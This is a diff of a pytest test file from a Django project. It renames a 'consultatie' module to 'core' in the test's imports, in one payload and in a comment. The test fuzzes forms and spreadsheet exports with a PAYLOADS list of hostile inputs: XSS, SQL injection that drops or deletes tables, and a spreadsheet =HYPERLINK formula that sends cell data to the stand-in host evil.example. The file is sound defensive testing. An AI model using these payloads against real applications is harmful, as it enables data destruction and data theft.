@@ -36,8 +36,8 @@ from belemmeringen.models import Belemmering, Knelpunt
 from belemmeringen.resources import FORMULA_PREFIXES, unescape_formula
 from belemmeringen.services import import_belemmeringen
 from belemmeringen.spreadsheets import export_belemmeringen
-from consultatie.models import ContactBericht, OutboxMessage
-from consultatie.validators import SINGLE_LINE_FORBIDDEN
+from core.models import ContactBericht, OutboxMessage
+from core.validators import SINGLE_LINE_FORBIDDEN
 from regiosessies.models import Aanmelding
 
 pytestmark = [pytest.mark.django_db, pytest.mark.slow]
@@ -61,7 +61,7 @@ PAYLOADS = [
     "<iframe src=javascript:alert(1)></iframe>",
     "'; DROP TABLE regiosessies_aanmelding; --",
     "' OR '1'='1' --",
-    "1); DELETE FROM consultatie_contactbericht WHERE (1=1",
+    "1); DELETE FROM core_contactbericht WHERE (1=1",
     '=HYPERLINK("http://evil.example/?"&A1;"klik")',
     "=1+2",
     "+SUM(A1:A9)",
@@ -92,7 +92,7 @@ hostile_text = st.one_of(
     st.lists(st.one_of(st.sampled_from(PAYLOADS), free_text), min_size=1, max_size=4).map("".join),
 )
 # Input a form should accept: printable, no control character or line separator (refused in every
-# field that reaches an email, consultatie/validators.py), not blank, within the field's length.
+# field that reaches an email, core/validators.py), not blank, within the field's length.
 safe_alphabet = st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"))
 
 
